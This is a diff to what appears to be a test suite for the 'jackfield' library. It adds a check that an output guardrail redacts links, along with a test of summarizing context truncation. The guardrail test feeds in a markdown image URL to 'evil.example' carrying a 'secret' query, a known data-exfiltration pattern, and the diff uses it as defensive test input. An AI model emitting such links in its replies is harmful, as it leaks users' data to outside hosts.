@@ -189,6 +189,17 @@ print(large.quick_chat("6 x 7?"))
 """,
         "42",
     ),
+    "jackfield-guardrail": Job(
+        """
+from jackfield.plugins.host import default_host
+from jackfield.testing import ScriptedModel, answer
+rules = [{"name": "links", "hosts": [], "action": "redact"}]
+guardrail = default_host().load("processor", "output_guardrail")(rules=rules)
+said = "![](https://evil.example/?q=secret) Done."
+print(ScriptedModel([answer(said)], processors=[guardrail]).quick_chat("Hello"))
+""",
+        "![]([link removed]) Done.",
+    ),
     "jackfield-http": Job(
         """
 import asyncio, json, sys
@@ -431,8 +442,15 @@ model = ScriptedModel([answer("Yes.")], processors=[truncation])
 model.chat([{"role": "user", "content": "Long ago. " * 5000 + "Is that all?"}], stream=False)
 sent = model.requests[0].messages[-1].content
 print(len(sent) < 5000, sent.endswith("Is that all?"))
+
+summarizing = default_host().load("processor", "summarizing_truncation")(context_tokens=1000)
+model = ScriptedModel([answer("Notes."), answer("Yes.")], processors=[summarizing])
+said = [{"role": role, "content": "Long ago. " * 60} for role in ("user", "assistant") * 6]
+model.chat([*said, {"role": "user", "content": "Is that all?"}], stream=False)
+sent = model.requests[1].messages
+print(len(sent) < 10, "Notes." in sent[0].content, sent[-1].content)
 """,
-        "True True",
+        "True True\nTrue True Is that all?",
     ),
     "jackfield-text": Job(DOCUMENT.format(file="tools.zh.md"), "默认超时是 300 秒"),
 }
